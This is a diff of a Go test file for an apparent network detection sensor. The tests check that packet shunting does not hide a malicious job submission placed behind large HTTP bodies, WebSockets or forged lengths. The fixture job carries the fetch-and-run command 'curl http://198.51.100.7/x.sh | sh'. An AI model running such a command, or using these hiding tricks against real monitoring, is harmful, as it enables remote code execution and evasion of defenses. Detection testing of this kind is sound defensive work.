@@ -13,6 +13,7 @@ import (
 	"strconv"
 	"strings"
 	"sync"
+	"sync/atomic"
 	"testing"
 	"time"
 
@@ -75,6 +76,7 @@ type listener struct {
 	ear   ear
 	stats engine.Stats
 	done  sync.WaitGroup
+	seen  atomic.Uint64 // packets that were delivered and are done with
 	said  []string
 }
 
@@ -82,7 +84,11 @@ type listener struct {
 func listenLive(t *testing.T, cfg engine.Config, live capture.LiveConfig, shunting *capture.ShuntConfig) *listener {
 	t.Helper()
 	l := &listener{}
-	live.Interfaces, live.Ring, live.Shunt = []string{"v1"}, 64<<20, shunting != nil
+	live.Ring, live.Shunt = 256<<20, shunting != nil
+	if live.Interfaces == nil {
+		live.Interfaces = []string{"v1"}
+	}
+	cfg.Progress = func(s engine.Stats) { l.seen.Store(s.Packets - s.Flow.Shunted) }
 	live.Notice = func(s string) { l.said = append(l.said, s) }
 	var err error
 	if l.src, err = capture.OpenLive(live); err != nil {
@@ -110,31 +116,19 @@ func (l *listener) end() {
 	l.src.Close()
 }
 
-// rows gives the rows of a log as text, sorted, without columns that are left out; seconds are told to a hundredth.
-func (l *listener) rows(log string, without ...string) (all []string) {
-	for _, r := range l.ear.rows[log] {
-		var s []string
-		for k, v := range r {
-			if slices.Contains(without, k) {
-				continue
-			}
-			s = append(s, k+"="+v)
-		}
-		slices.Sort(s)
-		all = append(all, strings.Join(s, " "))
-	}
-	slices.Sort(all)
-	return all
-}
-
-// sameConns compares two logs of connections: times within a millisecond, all else equal.
-func sameConns(t *testing.T, want, got *listener) {
+// sameConns compares two logs of connections: times within a millisecond, all else equal. elsewhere says that the sensors
+// were at two interfaces, which stamp frames each in its turn.
+func sameConns(t *testing.T, want, got *listener, elsewhere bool) {
 	t.Helper()
 	type row = map[string]string
 	index := func(l *listener) map[string]row {
 		all := map[string]row{}
 		for _, r := range l.ear.rows["conn"] {
-			all[fmt.Sprint(r["uid"], r["ts"], r["history"] == "")] = r
+			key := fmt.Sprint(r["uid"], r["ts"])
+			if elsewhere {
+				key = fmt.Sprint(r["id.orig_h"], r["id.orig_p"], r["id.resp_h"], r["id.resp_p"])
+			}
+			all[key] = r
 		}
 		return all
 	}
@@ -146,15 +140,15 @@ func sameConns(t *testing.T, want, got *listener) {
 	for k, x := range a {
 		y := b[k]
 		if y == nil {
-			t.Errorf("no row when shunted: %v", x)
+			t.Errorf("no row when shunted: %v; there are %v", x, b)
 			continue
 		}
 		for c, v := range x {
 			w := y[c]
-			if v == w {
+			if v == w || elsewhere && c == "uid" {
 				continue
 			}
-			if c == "duration" {
+			if c == "duration" || elsewhere && c == "ts" {
 				p, _ := strconv.ParseFloat(v, 64)
 				q, _ := strconv.ParseFloat(w, 64)
 				if d := p - q; d < 0.001 && d > -0.001 {
@@ -220,7 +214,7 @@ func TestShuntedCases(t *testing.T) {
 		plain.end()
 		shunt.end()
 		failed := t.Failed()
-		sameConns(t, plain, shunt)
+		sameConns(t, plain, shunt, false)
 		sameFindings(t, plain, shunt)
 		if a, b := plain.stats, shunt.stats; a.Packets != b.Packets || a.Bytes != b.Bytes || a.Flow.GapBytes != b.Flow.GapBytes || a.Flow.AckedBytes != b.Flow.AckedBytes {
 			t.Errorf("%d packets, %d bytes, %d missing, %d acknowledged; when shunted %d, %d, %d, %d", a.Packets, a.Bytes, a.Flow.GapBytes, a.Flow.AckedBytes, b.Packets, b.Bytes, b.Flow.GapBytes, b.Flow.AckedBytes)
@@ -233,5 +227,278 @@ func TestShuntedCases(t *testing.T) {
 	t.Logf("%d of %d packets shunted, %d times", shunted, packets, shunts)
 	if shunted == 0 {
 		t.Error("nothing was shunted")
+	}
+}
+
+// dialog is a connection that a test makes up, from 203.0.113.66 to a dashboard.
+type dialog struct {
+	t    *testing.T
+	send func(frame []byte) error
+	wait func() // until what was sent is read
+	port uint16
+	seq  [2]uint32
+	tag  int // VLAN; 0: none
+	v6   bool
+	n    int
+}
+
+// segment sends one of side.
+func (d *dialog) segment(side int, flags byte, seq uint32, ttl byte, options, payload []byte) {
+	d.t.Helper()
+	b := make([]byte, 0, 128+len(payload))
+	b = append(b, 2, 0, 0, 0, 0, 1, 2, 0, 0, 0, 0, 2)
+	if d.tag != 0 {
+		b = append(b, 0x81, 0, byte(d.tag>>8), byte(d.tag))
+	}
+	ports := [2]uint16{d.port, 8265}
+	n := 20 + len(options) + len(payload)
+	var pseudo uint32
+	be := binary.BigEndian
+	add := func(b []byte) {
+		for ; len(b) > 1; b = b[2:] {
+			pseudo += uint32(be.Uint16(b))
+		}
+		if len(b) == 1 {
+			pseudo += uint32(b[0]) << 8
+		}
+	}
+	fold := func() uint16 {
+		for pseudo > 0xffff {
+			pseudo = pseudo>>16 + pseudo&0xffff
+		}
+		return ^uint16(pseudo)
+	}
+	if d.v6 {
+		b = append(b, 0x86, 0xdd, 0x60, 0, 0, 0)
+		b = be.AppendUint16(b, uint16(n))
+		b = append(b, 6, ttl)
+		a := [2][]byte{{0x20, 1, 0x0d, 0xb8, 15: 66}, {0xfd, 0x10, 15: 10}}
+		b = append(append(b, a[side]...), a[1-side]...)
+		add(b[len(b)-32:])
+	} else {
+		b = append(b, 8, 0)
+		ip := len(b)
+		b = append(b, 0x45, 0)
+		b = be.AppendUint16(b, uint16(20+n))
+		b = append(b, 0, 0, 0x40, 0, ttl, 6, 0, 0)
+		a := [2][]byte{{203, 0, 113, 66}, {10, 20, 0, 10}}
+		b = append(append(b, a[side]...), a[1-side]...)
+		add(b[ip:])
+		be.PutUint16(b[ip+10:], fold())
+		pseudo = 0
+		add(b[ip+12:])
+	}
+	pseudo += 6 + uint32(n)
+	tcp := len(b)
+	b = be.AppendUint16(be.AppendUint16(b, ports[side]), ports[1-side])
+	ack := uint32(0)
+	if flags&capture.FlagACK != 0 {
+		ack = d.seq[1-side]
+	}
+	b = be.AppendUint32(be.AppendUint32(b, seq), ack)
+	b = append(b, byte(20+len(options))<<2, flags, 0xff, 0xff, 0, 0, 0, 0)
+	b = append(append(b, options...), payload...)
+	add(b[tcp:])
+	be.PutUint16(b[tcp+16:], fold())
+	if err := d.send(b); err != nil {
+		d.t.Fatal(err)
+	}
+	if d.n++; d.n%64 == 0 {
+		d.wait()
+	}
+}
+
+func (d *dialog) open(seq [2]uint32) {
+	d.seq = seq
+	scale := []byte{3, 3, 14, 1}
+	d.segment(0, capture.FlagSYN, d.seq[0], 64, scale, nil)
+	d.seq[0]++
+	d.segment(1, capture.FlagSYN|capture.FlagACK, d.seq[1], 64, scale, nil)
+	d.seq[1]++
+	d.segment(0, capture.FlagACK, d.seq[0], 64, nil, nil)
+}
+
+// say sends a message, which the other side acknowledges.
+func (d *dialog) say(side int, b string) {
+	d.segment(side, capture.FlagACK|capture.FlagPSH, d.seq[side], 64, nil, []byte(b))
+	d.seq[side] += uint32(len(b))
+	d.segment(1-side, capture.FlagACK, d.seq[1-side], 64, nil, nil)
+}
+
+// bulk sends n bytes, of which every second segment is acknowledged.
+func (d *dialog) bulk(side int, n int64) {
+	b := make([]byte, 61440)
+	for i := range b {
+		b[i] = byte(i*7 + i>>8*13)
+	}
+	for i := 0; n > 0; i++ {
+		p := b[:min(n, int64(len(b)))]
+		d.segment(side, capture.FlagACK, d.seq[side], 64, nil, p)
+		d.seq[side] += uint32(len(p))
+		if n -= int64(len(p)); i%2 == 1 || n == 0 {
+			d.segment(1-side, capture.FlagACK, d.seq[1-side], 64, nil, nil)
+		}
+	}
+	time.Sleep(20 * time.Millisecond)
+}
+
+// job submits one, and has it accepted.
+func (d *dialog) job() {
+	const body = `{"entrypoint": "curl http://198.51.100.7/x.sh | sh"}`
+	d.say(0, fmt.Sprintf("POST /api/jobs/ HTTP/1.1\r\nHost: 10.20.0.10:8265\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", len(body), body))
+	const id = `{"job_id": "raysubmit_tUAuCKubPAEXh6CW", "submission_id": "raysubmit_tUAuCKubPAEXh6CW"}`
+	d.say(1, fmt.Sprintf("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", len(id), id))
+}
+
+func (d *dialog) close() {
+	for side := range 2 {
+		d.segment(side, capture.FlagFIN|capture.FlagACK, d.seq[side], 64, nil, nil)
+		d.seq[side]++
+	}
+	d.segment(0, capture.FlagACK, d.seq[0], 64, nil, nil)
+}
+
+const (
+	ask     = "GET /big HTTP/1.1\r\nHost: 10.20.0.10:8265\r\n\r\n"
+	upgrade = "GET /ws HTTP/1.1\r\nHost: 10.20.0.10:8265\r\nConnection: Upgrade\r\nUpgrade: %s\r\n%s\r\n"
+)
+
+// hidings are connections with a job at their end, behind much that nobody reads.
+var hidings = []struct {
+	name string
+	seq  [2]uint32
+	tag  int
+	v6   bool
+	keep bool // nothing of it may be shunted
+	lost bool // the job is none: this protocol goes on to the end of the connection
+	talk func(d *dialog)
+}{
+	{name: "a body of 2 GB", seq: [2]uint32{0xfffffff0, 0xf0000000}, talk: func(d *dialog) {
+		const n = 2<<30 + 100<<20 + 5
+		d.say(0, ask)
+		d.say(1, fmt.Sprintf("HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n", int64(n)))
+		d.bulk(1, n)
+	}},
+	{name: "a body that is sent", talk: func(d *dialog) {
+		d.say(0, "PUT /big HTTP/1.1\r\nHost: 10.20.0.10:8265\r\nContent-Length: 400000000\r\n\r\n")
+		d.bulk(0, 400000000)
+		d.say(1, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
+	}},
+	{name: "a chunk", tag: 7, talk: func(d *dialog) {
+		d.say(0, ask)
+		d.say(1, fmt.Sprintf("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n%x\r\n", 400000000))
+		d.bulk(1, 400000000)
+		d.say(1, "\r\n0\r\n\r\n")
+	}},
+	{name: "bytes that nobody knows", v6: true, talk: func(d *dialog) {
+		d.say(0, "\x85\x01\x02\x03hello")
+		d.bulk(0, 64<<20)
+		d.bulk(1, 64<<20)
+	}},
+	{name: "a protocol that was agreed upon", talk: func(d *dialog) {
+		d.say(0, fmt.Sprintf(upgrade, "spdy/9", ""))
+		d.say(1, "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: spdy/9\r\n\r\n")
+		d.say(1, "\x85\x01\x02\x03hello")
+		d.bulk(0, 64<<20)
+		d.bulk(1, 64<<20)
+	}},
+	{name: "a WebSocket", keep: true, lost: true, talk: func(d *dialog) {
+		d.say(0, fmt.Sprintf(upgrade, "websocket", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"))
+		d.say(1, "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n")
+		const n = 4 << 20
+		d.say(1, "\x82\x7f"+string(binary.BigEndian.AppendUint64(nil, n)))
+		d.bulk(1, n)
+		d.say(1, "\x88\x02\x03\xe8")
+		d.say(0, "\x88\x82\x00\x00\x00\x00\x03\xe8")
+	}},
+	{name: "a length that was forged", keep: true, talk: func(d *dialog) {
+		d.say(0, ask)
+		head := func(n int64) string { return fmt.Sprintf("HTTP/1.1 200 OK\r\nContent-Length: %010d\r\n\r\n", n) }
+		forged, real := head(9e9), head(100e6)
+		d.segment(1, capture.FlagACK|capture.FlagPSH, d.seq[1], 1, nil, []byte(forged)) // it dies on its way
+		d.say(1, real)
+		d.bulk(1, 100e6)
+	}},
+}
+
+// TestShuntHidesNothing: a job behind bytes that nobody reads is found, though they are not delivered.
+func TestShuntHidesNothing(t *testing.T) {
+	shunting := &capture.ShuntConfig{After: capture.ShuntAfter, Least: capture.ShuntLeast, Tail: capture.ShuntTail}
+	for i, h := range hidings {
+		if testing.Short() && i == 0 {
+			continue
+		}
+		t.Run(h.name, func(t *testing.T) {
+			send := cable(t)
+			plain, shunt := listenLive(t, engine.Default(), capture.LiveConfig{}, nil), listenLive(t, engine.Default(), capture.LiveConfig{}, shunting)
+			d := &dialog{t: t, send: send, port: uint16(40000 + i), tag: h.tag, v6: h.v6}
+			d.wait = func() { // there is room for 3,000 in a ring, and more than half of it is overload
+				for d.n > int(plain.seen.Load())+200 {
+					time.Sleep(time.Millisecond)
+				}
+				time.Sleep(time.Millisecond)
+			}
+			d.open(h.seq)
+			h.talk(d)
+			d.job()
+			d.close()
+			plain.end()
+			shunt.end()
+			f := &shunt.stats.Flow
+			t.Logf("%d of %d packets shunted, %d times", f.Shunted, shunt.stats.Packets, f.Shunts)
+			if h.keep != (f.Shunted == 0) {
+				t.Errorf("%d of %d packets were shunted", f.Shunted, shunt.stats.Packets)
+			}
+			found := false
+			for _, f := range shunt.ear.findings {
+				found = found || strings.HasPrefix(f.Rule, "jobsubmit/")
+			}
+			if !found && !h.lost {
+				t.Error("the job was not found")
+			}
+			sameConns(t, plain, shunt, false)
+			sameFindings(t, plain, shunt)
+			if plain.stats.Live.Dropped+shunt.stats.Live.Dropped > 0 {
+				t.Logf("%d and %d packets were lost", plain.stats.Live.Dropped, shunt.stats.Live.Dropped)
+			}
+		})
+	}
+}
+
+// TestShuntAtMirror: the driver of a mirror drops what is counted, and the counts are what a sensor at the other end has.
+func TestShuntAtMirror(t *testing.T) {
+	send := cable(t)
+	shunting := &capture.ShuntConfig{After: capture.ShuntAfter, Least: capture.ShuntLeast, Tail: capture.ShuntTail}
+	plain := listenLive(t, engine.Default(), capture.LiveConfig{Interfaces: []string{"v0"}}, nil)
+	shunt := listenLive(t, engine.Default(), capture.LiveConfig{Mirror: []string{"v*"}}, shunting)
+	if out, _ := exec.Command("ip", "-d", "link", "show", "v1").CombinedOutput(); !strings.Contains(string(out), "xdp") {
+		shunt.end()
+		plain.end()
+		t.Skip("no XDP here: ", shunt.said)
+	}
+	beside := listenLive(t, engine.Default(), capture.LiveConfig{}, nil)
+	d := &dialog{t: t, send: send, port: 40100}
+	d.wait = func() {
+		for d.n > int(plain.seen.Load())+200 {
+			time.Sleep(time.Millisecond)
+		}
+	}
+	d.open([2]uint32{1, 1})
+	d.say(0, "\x85\x01\x02\x03hello")
+	d.bulk(0, 100<<20)
+	d.job()
+	d.close()
+	plain.end()
+	shunt.end()
+	beside.end()
+	sameConns(t, plain, shunt, true)
+	sameFindings(t, plain, shunt)
+	f := &shunt.stats.Flow
+	if f.Shunted < 400 || beside.stats.Packets+f.Shunted != shunt.stats.Packets {
+		t.Errorf("%d of %d packets were shunted, %d times, and %d came to a socket", f.Shunted, shunt.stats.Packets, f.Shunts, beside.stats.Packets)
+	}
+	out, _ := exec.Command("ip", "-d", "link", "show", "v1").CombinedOutput()
+	if strings.Contains(string(out), "xdp") {
+		t.Errorf("the program is still there: %s", out)
 	}
 }
